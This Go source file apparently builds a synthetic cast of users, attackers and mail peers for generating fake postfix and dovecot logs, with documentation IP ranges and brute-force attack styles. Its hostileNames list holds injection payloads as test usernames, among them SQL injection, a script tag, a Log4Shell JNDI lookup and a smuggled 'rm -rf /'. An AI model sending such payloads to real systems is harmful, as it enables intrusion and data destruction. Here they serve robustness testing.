package loggen

import (
	"math/rand/v2"
	"net/netip"
	"strconv"
)

// The server's own domains and addresses. Documentation ranges keep the
// victim recognisably fake.
const (
	serverLip4 = "198.51.100.25"
	serverLip6 = "2001:db8:25::25"
)

var firstNames = []string{
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
	"karl", "laura", "mallory", "nina", "oscar", "peggy", "quentin", "rita", "sybil", "trent",
	"ursula", "victor", "wendy", "xavier", "yann", "zoe", "anna", "marc", "sophie", "paul",
	"claire", "louis", "emma", "hugo", "lea", "jules", "chloe", "lucas", "ines", "tom",
}

var lastNames = []string{
	"martin", "bernard", "dubois", "thomas", "robert", "richard", "petit", "durand", "leroy", "moreau",
	"smith", "jones", "taylor", "brown", "wilson", "evans", "walker", "wright", "green", "hall",
	"mueller", "schmidt", "weber", "fischer", "becker", "rossi", "russo", "garcia", "lopez", "novak",
	"kowalski", "nielsen", "jansen", "peeters", "silva", "santos", "costa", "ivanova", "popescu", "horvat",
}

// roleNames are the local parts every mail server gets tried with. Some
// exist on this server as role accounts (see newWorld).
var roleNames = []string{
	"admin", "info", "test", "support", "sales", "office", "contact", "webmaster",
	"postmaster", "user", "mail", "root", "guest", "marketing", "hr", "billing",
	"noreply", "administrator", "user1", "test1", "backup", "scanner", "printer",
	"demo", "service", "accounts", "finance", "jobs", "newsletter", "abuse",
}

// hostileNames are usernames chosen to break parsers, terminals and HTML.
// Dovecot logs what the client sent, so any of these can reach the log;
// control bytes are written as the visible text of an escape, as dovecot's
// sanitising would leave them harmless.
var hostileNames = []string{
	"admin' OR '1'='1",
	"<script>alert(1)</script>",
	"test>, rip=6.6.6.6, <x",
	`\x1b[31mroot\x1b[0m`,
	"${jndi:ldap://198.51.100.66/a}",
	"%s%s%s%n",
	"a b c",
	"user@example.com; rm -rf /",
}

var mtaWords = []string{
	"relay", "mx", "smtp", "mail", "out", "mta", "outbound", "mailer", "post", "edge",
}

var orgWords = []string{
	"acme", "globex", "initech", "umbrella", "hooli", "vandelay", "wayne", "stark", "tyrell", "cyberdyne",
	"soylent", "wonka", "oceanic", "aperture", "duff", "gringotts", "monarch", "prestige", "sterling", "virtucon",
}

// publicFirstOctets are /8s in ordinary allocated unicast space, so that
// generated "public" IPv4 addresses look like real attackers and clients
// and never fall in private, shared or reserved ranges.
var publicFirstOctets = []byte{
	5, 31, 37, 41, 45, 46, 49, 58, 59, 61, 62, 77, 78, 79, 80, 81, 82, 83, 85, 86, 87, 88, 89,
	91, 92, 93, 94, 95, 101, 103, 106, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119,
	121, 122, 123, 125, 141, 146, 151, 154, 159, 161, 162, 171, 175, 176, 177, 178, 179, 180,
	181, 182, 183, 185, 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197, 200, 201, 202,
	210, 211, 212, 213, 217, 218, 219, 220, 221, 222, 223,
}

// account is a username an attacker may try: it exists on the server or
// not, which decides "Password mismatch" against "unknown user".
type account struct {
	name   string
	exists bool
}

// client is a real user of the server with the addresses it connects from.
type client struct {
	name      string
	ips       []string
	ptr       string // postfix's name for the first address
	staleHash string // SHA1 prefix of an old password a forgotten phone still sends; "" if none
}

// peer is a remote MTA that delivers mail to us or receives ours.
type peer struct {
	host, ip, domain string
}

// attacker is one hostile address and its habits.
type attacker struct {
	ip     string
	ptr    string  // postfix's client name: "unknown" mostly
	smtp   float64 // chance that a session targets SMTP AUTH rather than dovecot
	style  int     // styleSpray, styleFocus or styleLeaked
	target int     // index into world.targets for styleFocus
	svc    int     // favourite dovecot service, index into loginServices
	// busyUntil is when the address's current attack is over (µs); see
	// gen.attackEvent.
	busyUntil int64
}

const (
	styleSpray  = iota // a different guessed name each session
	styleFocus         // one account, shared with other addresses: distributed brute force
	styleLeaked        // real addresses from a leaked list
)

var loginServices = []string{"imap", "pop3", "submission", "managesieve"}

// world is the fixed cast of one generated log, drawn from the seed.
type world struct {
	clients   []client
	guesses   []account // role names and leaked addresses attackers try
	real      []account // the server's existing accounts
	targets   []account // accounts a botnet concentrates on
	attackers []attacker
	zipf      *rand.Zipf
	mtas      []peer
	remotes   []peer // destinations of outgoing mail

	pid        int // last pid handed out to a short-lived process
	qmgr       int
	postscreen int
	dovecot    int
	anvil      int
	cleanup    int
	lmtp       int
	dlmtp      int // dovecot's lmtp process
	smtp       int
	authWorker int
}

func newWorld(r *rand.Rand) *world {
	w := &world{pid: 20000 + r.IntN(10000)}
	w.qmgr = 1000 + r.IntN(500)
	w.postscreen = w.qmgr + 3 + r.IntN(20)
	w.dovecot = 700 + r.IntN(200)
	w.anvil = w.nextPID(r)
	w.cleanup = w.nextPID(r)
	w.lmtp = w.nextPID(r)
	w.dlmtp = w.nextPID(r)
	w.smtp = w.nextPID(r)
	w.authWorker = w.nextPID(r)

	// Addresses are unique across clients and attackers: the truth is per
	// address, and two actors behind one address would blur it.
	used := map[string]bool{}
	unique := func(gen func(*rand.Rand) string) string {
		for {
			if ip := gen(r); !used[ip] {
				used[ip] = true
				return ip
			}
		}
	}

	// Real accounts: people at two domains, and a few role accounts that
	// attackers will find exist.
	seen := map[string]bool{}
	for len(w.clients) < 180 {
		name := firstNames[r.IntN(len(firstNames))] + "." + lastNames[r.IntN(len(lastNames))]
		if r.IntN(4) == 0 {
			name += "@example.org"
		} else {
			name += "@example.com"
		}
		if seen[name] {
			continue
		}
		seen[name] = true
		c := client{name: name}
		for n := 1 + r.IntN(3); len(c.ips) < n; {
			if r.IntN(3) == 0 {
				c.ips = append(c.ips, unique(publicIPv6))
			} else {
				c.ips = append(c.ips, unique(publicIPv4))
			}
		}
		c.ptr = ptrName(r, c.ips[0])
		if r.IntN(25) == 0 {
			c.staleHash = hexString(r, 6)
		}
		w.clients = append(w.clients, c)
	}
	for _, c := range w.clients {
		w.real = append(w.real, account{c.name, true})
	}
	for _, role := range []string{"info@example.com", "sales@example.com", "support@example.org", "contact@example.org"} {
		w.real = append(w.real, account{role, true})
		seen[role] = true
	}

	for _, role := range roleNames {
		w.guesses = append(w.guesses, account{role, false})
		for _, dom := range []string{"@example.com", "@example.org"} {
			w.guesses = append(w.guesses, account{role + dom, seen[role+dom]})
		}
	}
	for i := 0; i < 60; i++ {
		// Leaked-list names: some real, most not.
		name := firstNames[r.IntN(len(firstNames))] + "." + lastNames[r.IntN(len(lastNames))] + "@example.com"
		w.guesses = append(w.guesses, account{name, seen[name]})
	}
	w.targets = []account{
		{"info@example.com", true},
		w.real[r.IntN(len(w.clients))],
		{"admin@example.com", false},
	}

	for i := 0; i < 1500; i++ {
		a := attacker{ptr: "unknown", svc: pickWeighted(r, []int{55, 25, 12, 8})}
		switch x := r.IntN(100); {
		case x < 12:
			a.ip = unique(docIPv4)
		case x < 20:
			a.ip = unique(docIPv6)
		case x < 30:
			a.ip = unique(publicIPv6)
		default:
			a.ip = unique(publicIPv4)
		}
		if r.IntN(6) == 0 {
			a.ptr = ptrName(r, a.ip)
		}
		a.smtp = []float64{0.05, 0.3, 0.6, 0.95}[r.IntN(4)]
		switch x := r.IntN(10); {
		case x < 5:
			a.style = styleSpray
		case x < 8:
			a.style = styleFocus
			a.target = r.IntN(len(w.targets))
		default:
			a.style = styleLeaked
		}
		w.attackers = append(w.attackers, a)
	}
	// A Zipf law makes a few addresses loud and most of them occasional,
	// as in real logs.
	w.zipf = rand.NewZipf(r, 1.15, 3, uint64(len(w.attackers)-1))

	for i := 0; i < 300; i++ {
		org := orgWords[r.IntN(len(orgWords))]
		tld := []string{"example.net", "example.org", "example.com"}[r.IntN(3)]
		domain := org + strconv.Itoa(i) + "." + tld
		host := mtaWords[r.IntN(len(mtaWords))] + strconv.Itoa(1+r.IntN(9)) + "." + domain
		ip := publicIPv4(r)
		if r.IntN(5) == 0 {
			ip = publicIPv6(r)
		}
		p := peer{host: host, ip: ip, domain: domain}
		if i%2 == 0 {
			w.mtas = append(w.mtas, p)
		} else {
			w.remotes = append(w.remotes, p)
		}
	}
	return w
}

// nextPID hands out a fresh pid, as the kernel does for new processes:
// increasing with gaps, wrapping at the default pid_max.
func (w *world) nextPID(r *rand.Rand) int {
	w.pid += 1 + r.IntN(40)
	if w.pid >= 4194304 {
		w.pid = 300 + r.IntN(1000)
	}
	return w.pid
}

// renew replaces a long-lived worker's pid now and then: postfix and
// dovecot recycle their workers after max_use or idle time.
func (w *world) renew(r *rand.Rand, pid *int) int {
	if r.IntN(300) == 0 {
		*pid = w.nextPID(r)
	}
	return *pid
}

func publicIPv4(r *rand.Rand) string {
	a := publicFirstOctets[r.IntN(len(publicFirstOctets))]
	return netip.AddrFrom4([4]byte{a, byte(r.IntN(256)), byte(r.IntN(256)), byte(1 + r.IntN(254))}).String()
}

func docIPv4(r *rand.Rand) string {
	nets := [][3]byte{{192, 0, 2}, {198, 51, 100}, {203, 0, 113}}
	n := nets[r.IntN(len(nets))]
	return netip.AddrFrom4([4]byte{n[0], n[1], n[2], byte(1 + r.IntN(254))}).String()
}

func publicIPv6(r *rand.Rand) string {
	var b [16]byte
	b[0], b[1] = 0x2a, byte(r.IntN(16))
	b[2], b[3] = byte(r.IntN(256)), byte(r.IntN(256))
	return ipv6Host(r, b)
}

func docIPv6(r *rand.Rand) string {
	return ipv6Host(r, [16]byte{0x20, 0x01, 0x0d, 0xb8})
}

// ipv6Host fills in a random subnet (bytes 4-5) and host of the prefix b:
// half the time a server-style ::N, else 64 random bits.
func ipv6Host(r *rand.Rand, b [16]byte) string {
	b[4], b[5] = byte(r.IntN(256)), byte(r.IntN(256))
	if r.IntN(2) == 0 {
		b[15] = byte(1 + r.IntN(254))
	} else {
		for i := 8; i < 16; i++ {
			b[i] = byte(r.IntN(256))
		}
	}
	return netip.AddrFrom16(b).String()
}

// ptrName makes a reverse-DNS style name for an address.
func ptrName(r *rand.Rand, ip string) string {
	a, err := netip.ParseAddr(ip)
	if err != nil || !a.Is4() {
		return "unknown"
	}
	b := a.As4()
	isp := orgWords[r.IntN(len(orgWords))]
	return "host-" + strconv.Itoa(int(b[0])) + "-" + strconv.Itoa(int(b[1])) + "-" +
		strconv.Itoa(int(b[2])) + "-" + strconv.Itoa(int(b[3])) + ".dyn." + isp + ".example.net"
}

const hexDigits = "0123456789abcdef"

func hexString(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = hexDigits[r.IntN(16)]
	}
	return string(b)
}

func pickWeighted(r *rand.Rand, weights []int) int {
	total := 0
	for _, w := range weights {
		total += w
	}
	x := r.IntN(total)
	for i, w := range weights {
		if x < w {
			return i
		}
		x -= w
	}
	return len(weights) - 1
}
